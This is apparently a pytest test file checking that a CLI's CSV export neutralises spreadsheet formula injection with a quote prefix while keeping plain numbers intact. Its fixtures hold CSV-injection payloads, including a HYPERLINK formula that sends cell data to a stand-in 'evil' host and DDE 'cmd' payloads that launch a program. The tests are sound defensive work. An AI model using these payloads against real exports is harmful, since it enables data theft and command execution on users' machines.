"""``enrich export``'s CSV is safe to open in a spreadsheet (issue 9, item 11).

Text a spreadsheet would run as a formula (OWASP's CSV Injection list: = + - @, tab, CR, LF as
the first character) gets a single quote in front, in cells and headers; plain numbers stay
numbers; a row with ``;`` or a tab in a cell is fully quoted; ``--raw-cells`` writes the text as
stored; JSON lines are never changed.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from typing import Any
from uuid import UUID

import pytest
from click.testing import CliRunner, Result

from shared.cli.export_cells import neutralise
from shared.cli.main import main
from shared.pg_state import PgStateAPI
from shared.state_api import StepResult

# Input column -> value, each a way into a formula or a look-alike that must stay as it is.
ITEM: dict[str, Any] = {
    '=HYPERLINK("http://evil")': "header",
    "equals": '=HYPERLINK("http://evil/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus_formula": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "negative": "-5",
    "negative_exp": "-1.5e3",
    "plain": "Acme",
    "json_number": -7,
}
RESULT = {"delta": -5, "ratio": -0.25, "note": "=1+1", "label": "-neg"}
EXPECTED = {
    '\'=HYPERLINK("http://evil")': "header",
    "equals": '\'=HYPERLINK("http://evil/?"&A1,"click")',
    "plus": "'+1+cmd|' /C calc'!A0",
    "minus_formula": "'-1+1",
    "at": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "'\t=1+1",
    "cr": "'\r=1+1",
    "lf": "'\n=1+1",
    "negative": "-5",
    "negative_exp": "-1.5e3",
    "plain": "Acme",
    "json_number": "-7",
    "step_a: status": "completed",
    "step_a: error": "",
    "step_a: delta": "-5",
    "step_a: ratio": "-0.25",
    "step_a: note": "'=1+1",
    "step_a: label": "'-neg",
}
UUID_TEXT = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")


def enrich(*args: str) -> Result:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def completed_batch(dsn: str, items: list[dict[str, Any]], result: dict[str, Any]) -> UUID:
    """A batch of ``items`` whose step_a completed with ``result`` for each."""

    async def go() -> UUID:
        api = await PgStateAPI.open(dsn, min_size=1, max_size=1)
        async with api:
            batch_id = await api.create_batch(["step_a"], items)
            claimed = [c.task for c in await api.claim(100, batch_ids=[batch_id])]
            assert all(s.ok for s in await api.start(claimed))
            done = await api.complete([StepResult(t, result) for t in claimed])
            assert all(d.ok for d in done)
            return batch_id

    return asyncio.run(go())


def export_csv(batch_id: UUID, *flags: str) -> list[list[str]]:
    """The CSV export, its item ids written as ID."""
    result = enrich("export", str(batch_id), "-o", "-", *flags)
    assert result.exit_code == 0, result.stderr
    return read_csv(UUID_TEXT.sub("ID", result.stdout))


def test_formula_cells_and_headers_are_neutralised_and_numbers_kept(db: str) -> None:
    batch_id = completed_batch(db, [ITEM], RESULT)
    header, row = export_csv(batch_id)
    assert dict(zip(header, row, strict=True)) == {**EXPECTED, "item_id": "ID"}


def test_raw_cells_writes_the_stored_text_and_jsonl_is_never_changed(db: str) -> None:
    batch_id = completed_batch(db, [ITEM], RESULT)
    header, row = export_csv(batch_id, "--raw-cells")
    raw = {**ITEM, "json_number": "-7"}
    assert dict(zip(header, row, strict=True)) == {
        **raw,
        "item_id": "ID",
        "step_a: status": "completed",
        "step_a: error": "",
        "step_a: delta": "-5",
        "step_a: ratio": "-0.25",
        "step_a: note": "=1+1",
        "step_a: label": "-neg",
    }
    jsonl = enrich("export", str(batch_id), "-o", "-", "--format", "jsonl")
    assert jsonl.exit_code == 0, jsonl.stderr
    assert json.loads(jsonl.stdout) == {
        **ITEM,
        "step_a.status": "COMPLETED",
        "step_a.error": None,
        **{f"step_a.{k}": v for k, v in RESULT.items()},
    }


def test_a_row_with_another_separator_is_fully_quoted(db: str) -> None:
    # A spreadsheet splitting on ';' would start a cell at '=1+1' unless the cell is quoted.
    items = [{"name": "Acme;=1+1", "city": "Paris"}, {"name": "Beta", "city": "Lyon"}]
    batch_id = completed_batch(db, items, {"n": 1})
    result = enrich("export", str(batch_id), "-o", "-")
    assert result.exit_code == 0, result.stderr
    lines = UUID_TEXT.sub("ID", result.stdout).splitlines()
    assert lines[1] == '"Paris","Acme;=1+1","ID","completed","","1"'  # jsonb orders the keys
    assert lines[2] == "Lyon,Beta,ID,completed,,1"  # other rows keep minimal quoting
    raw = enrich("export", str(batch_id), "-o", "-", "--raw-cells")
    assert UUID_TEXT.sub("ID", raw.stdout).splitlines()[1:] == lines[1:]


def test_a_carriage_return_never_ends_a_row(db: str) -> None:
    # Python 3.11's csv writer leaves a lone CR unquoted with a "\n" line terminator: a reader
    # then starts a new row inside the cell.
    batch_id = completed_batch(db, [{"name": "a\rb", "city": "x\r"}], {"n": 1})
    for flags in ((), ("--raw-cells",)):
        assert export_csv(batch_id, *flags)[1:] == [["x\r", "a\rb", "ID", "completed", "", "1"]]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+5", "'+5"),  # a spreadsheet stores +5 as the formula =+5
        ("-5", "-5"),
        ("-0.5", "-0.5"),
        ("-.5", "-.5"),
        ("-1.5e3", "-1.5e3"),
        ("-1E-3", "-1E-3"),
        ("-5 ", "'-5 "),
        ("-5%", "'-5%"),
        ("-1e3+1", "'-1e3+1"),
        ("-", "'-"),
        ("@", "'@"),
        ("", ""),
        ("'=already", "'=already"),
        ("a=1", "a=1"),
    ],
)
def test_neutralise(text: str, shown: str) -> None:
    assert neutralise(text) == shown
